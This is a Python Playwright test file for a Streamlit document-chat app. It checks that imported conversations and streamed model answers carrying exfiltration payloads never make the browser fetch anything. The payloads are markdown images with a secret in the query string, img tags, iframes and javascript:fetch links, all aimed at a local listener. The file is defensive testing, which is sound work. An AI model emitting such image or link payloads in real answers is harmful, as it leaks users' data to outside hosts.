"""Exfiltration, tried in Chromium: an imported conversation, and an answer as it streams, carry
every payload that could make the page fetch or run something, each pointing at a listener on
127.0.0.1 that records every request it gets. The listener hears nothing; the page shows the
addresses as text.

The page is served by `streamlit run app.py` here, without docchat's door and its
Content-Security-Policy: the policy would stop the requests too, and hide a renderer that let an
image through. A last check makes the same page fetch from the listener on purpose, so that its
silence means something.
"""

from __future__ import annotations

import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import _serve, ask, open_app, open_popover, settled
from tests.hostile_text import SECRET, hostile_export
from tests.network import free_port

# A 1x1 transparent GIF: what the listener answers, so that a fetched image would load.
PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
# Long enough for an image, a frame or a font to be asked for once the messages are drawn.
SETTLE_S = 2.0


class Listener:
    """An HTTP server on 127.0.0.1 that writes down every request it gets."""

    def __init__(self):
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def _answer(self):
                heard.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(PIXEL)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _answer

            def log_message(self, *args):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self._server.daemon_threads = True
        self.base = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True, name="listener")

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def listener():
    with Listener() as started:
        yield started


def _streamlit(tmp_path, llm_url: str):
    """Streamlit alone over app.py (see the module's docstring), on a free port."""
    yield from _serve(tmp_path, llm_url=llm_url, max_tokens="256", guarded=False,
                      extra_env={"DOCCHAT_CONTEXT_PROGRAMS": "false"})


@pytest.fixture
def bare_app_url(tmp_path):
    yield from _streamlit(tmp_path, "http://127.0.0.1:9/v1")


@pytest.fixture
def streaming_llm(monkeypatch, listener):
    """The fault tier's fake LLM server, answering slowly (0.2 s a piece) with an image cut
    before its closing parenthesis, as a model writes it a token at a time."""
    from tests.fault import fake_server

    secret = [SECRET[at:at + 4] for at in range(0, len(SECRET), 4)]  # open for 2 s or so
    pieces = ["The Determination Date is the 15th. ", "![chart](", f"{listener.base}/streamed.png?q=",
              *secret, " ", ")", f" <img src={listener.base}/streamed-tag.png>", " Done."]
    monkeypatch.setattr(fake_server, "SLOW_PIECES", pieces)
    server = fake_server.FakeLLMServer().start()
    server.mode = "slow"
    yield server
    server.stop()


@pytest.fixture
def streaming_app_url(tmp_path, streaming_llm):
    yield from _streamlit(tmp_path, streaming_llm.url + "/v1")


def _requests_of(page, app_url: str) -> list[str]:
    """Every request the page makes to anywhere but its own server (data: and blob: are its own)."""
    foreign: list[str] = []
    page.on("request", lambda request: None if request.url.startswith((app_url, "data:", "blob:"))
            else foreign.append(request.url))
    return foreign


def _nothing_fetched_or_drawn(page, listener: Listener, foreign: list[str]) -> None:
    time.sleep(SETTLE_S)
    assert listener.heard == []
    assert foreign == []
    assert page.locator(f"img[src*='{listener.base}'], img[src^='//']").count() == 0
    assert page.locator("iframe, video, object, embed").count() == 0
    assert page.locator("a[href^='javascript:' i], a[href^='data:' i]").count() == 0


def _the_listener_hears_this_page_when_it_does_fetch(page, listener: Listener) -> None:
    page.evaluate("address => { new Image().src = address; }", f"{listener.base}/control.png")
    deadline = time.monotonic() + 10
    while "GET /control.png" not in listener.heard and time.monotonic() < deadline:
        time.sleep(0.05)
    assert listener.heard == ["GET /control.png"]


def test_an_imported_conversation_carrying_every_payload_makes_the_browser_fetch_nothing(
        bare_app_url, listener, page, tmp_path):
    export = tmp_path / "harbour-trust.json"
    export.write_bytes(hostile_export(listener.base))
    foreign = _requests_of(page, bare_app_url)
    open_app(page, bare_app_url)

    box = open_popover(page, page.get_by_test_id("stSidebar").get_by_role("button", name="Import"))
    box.locator("input[type=file]").set_input_files(str(export))
    box.get_by_role("button", name="Import").click()
    expect(page.get_by_text("Imported 1 conversation.")).to_be_visible(timeout=30_000)
    page.get_by_role("button", name="New conversation").click()
    settled(page)
    page.get_by_test_id("stSidebar").get_by_role("button", name=re.compile("^Harbour Trust")).click()

    messages = page.get_by_test_id("stChatMessage")
    expect(messages).to_have_count(2, timeout=30_000)
    expect(messages.nth(1)).to_contain_text("image not loaded: logo")
    settled(page)
    page.get_by_text("Sources (1)").click()
    expect(page.get_by_text(f"trust-deed ![d]({listener.base}/document.png).pdf").first).to_be_visible()
    page.screenshot(path=str(tmp_path / "imported_answer_end.png"), full_page=True)
    messages.nth(0).scroll_into_view_if_needed()
    page.screenshot(path=str(tmp_path / "imported_question.png"), full_page=True)

    _nothing_fetched_or_drawn(page, listener, foreign)
    question, answer = messages.nth(0), messages.nth(1)
    expect(question).to_contain_text(f"image not loaded: chart — {listener.base}/inline.png?q={SECRET}")
    expect(question).to_contain_text(f'<img src="{listener.base}/img-tag.png?q={SECRET}">')
    expect(answer).to_contain_text(f"image not loaded: logo — {listener.base}/reference.png?q={SECRET}")
    expect(answer).to_contain_text(f"image not loaded: p — //{listener.base.split('://')[1]}/protocol-relative.png")
    expect(answer).to_contain_text(f'<iframe src="{listener.base}/iframe"></iframe>')
    expect(answer).to_contain_text(f"Open the trust deed [link blocked: javascript:fetch('{listener.base}/javascript")
    expect(answer).to_contain_text(f"your bank ({listener.base}/login)")
    expect(answer.get_by_role("link", name="your bank")).to_have_attribute("href", f"{listener.base}/login")
    expect(page.get_by_role("heading", name=f"Harbour Trust ![t]({listener.base}/title.png)")).to_be_visible()
    _the_listener_hears_this_page_when_it_does_fetch(page, listener)


def test_an_answer_streaming_an_image_a_piece_at_a_time_is_never_fetched(streaming_app_url, listener, page, tmp_path):
    foreign = _requests_of(page, streaming_app_url)
    open_app(page, streaming_app_url)

    ask(page, "When is the Determination Date?")
    answer = page.get_by_test_id("stChatMessage").nth(1)
    # Drawn while it streams: the image still open, then closed, shown as text each time.
    expect(answer).to_contain_text(f"![chart]({listener.base}/streamed.png?q=", timeout=60_000)
    expect(answer).to_contain_text(f"image not loaded: chart — {listener.base}/streamed.png?q={SECRET}",
                                   timeout=30_000)
    expect(answer).to_contain_text("Done.", timeout=30_000)
    expect(page.get_by_role("button", name="Stop")).to_have_count(0, timeout=30_000)  # stored, drawn again
    settled(page)
    page.screenshot(path=str(tmp_path / "streamed_payloads.png"), full_page=True)

    _nothing_fetched_or_drawn(page, listener, foreign)
    expect(answer).to_contain_text(f"<img src={listener.base}/streamed-tag.png>")
    _the_listener_hears_this_page_when_it_does_fetch(page, listener)
